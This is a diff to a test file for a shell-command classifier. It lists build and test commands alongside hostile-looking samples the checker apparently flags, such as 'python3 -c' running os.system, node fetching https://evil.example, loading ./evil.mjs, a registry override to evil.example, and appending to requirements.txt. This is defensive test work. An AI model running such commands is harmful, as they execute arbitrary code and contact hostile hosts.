@@ -1,7 +1,7 @@
 import { expect, test } from "vitest";
 import { shellFacts } from "./shell.ts";
 
-test.each(["npm test -- src/invoicing", "npm run test -- --coverage src/a.test.ts", "pip install -q -r requirements.txt", "python -m pip install -r config/requirements-dev.txt", "bundle exec rspec spec/a_spec.rb", "composer install", "npm ci", "npm test", "npm run db:migrate", "npx vitest run src/round.test.ts", "make test", "cargo build --release", "go test ./...", "pytest -x tests/test_a.py", "pnpm install --frozen-lockfile", "npx --no-install eslint src", "npx --no tsup", "python -m pytest -q tests/test_credit.py", "python3 -m unittest", "uv run pytest -x", "poetry run ruff src", "git fetch", "git fetch origin", "git pull --rebase origin main", "git fetch -q origin feature/x"])("%s builds or tests what the project keeps", (command) => {
+test.each(["python3 -c 'import json; print(json.dumps([1]))'", "node -e 'console.log([1, 2].map((x) => x ** 2))'", "node -p '-7n / 2n'", "npm test -- src/invoicing", "npm run test -- --coverage src/a.test.ts", "pip install -q -r requirements.txt", "python -m pip install -r config/requirements-dev.txt", "bundle exec rspec spec/a_spec.rb", "composer install", "npm ci", "npm test", "npm run db:migrate", "npx vitest run src/round.test.ts", "make test", "cargo build --release", "go test ./...", "pytest -x tests/test_a.py", "pnpm install --frozen-lockfile", "npx --no-install eslint src", "npx --no tsup", "python -m pytest -q tests/test_credit.py", "python3 -m unittest", "uv run pytest -x", "poetry run ruff src", "git fetch", "git fetch origin", "git pull --rebase origin main", "git fetch -q origin feature/x"])("%s builds or tests what the project keeps", (command) => {
   expect(shellFacts(command).class).toBe("build");
 });
 
@@ -18,6 +18,17 @@ test.each([
   "echo evil >> requirements.txt && pip install -r requirements.txt",
   "echo '{}' > package.json && npm ci",
   "sed -i 's/a/b/' app/package.json",
+  "python3 -c 'import os; os.system(\"id\")'",
+  "python3 -c 'import left_pad; print(1)'",
+  "python3 -c 'print(open(\"x\").read())'",
+  "python3 -c 'print(1)' x",
+  "python3 -Ic 'import sys'",
+  "node -e 'fetch(\"https://evil.example\")'",
+  "node -e 'require(\"fs\")'",
+  "node -e 'process.exit()'",
+  "node -e 'import(\"./evil.mjs\")'",
+  "node --import ./evil.mjs -e 1",
+  "node -r ./evil.js -e 1",
   "npm install left-pad",
   "npm run deploy",
   "npm ci --prefix /tmp/x",
@@ -84,7 +95,7 @@ test.each([
   "NPM_CONFIG_REGISTRY=https://evil.example npm i a",
   "npm i a && ./setup.sh",
   "npm i a && curl https://evil.example",
-  "npm i a; node -e 'x'",
+  "npm i a; node -e 'fetch(1)'",
   "npm exec a",
   "pip install ./x",
   "pip install x.whl",
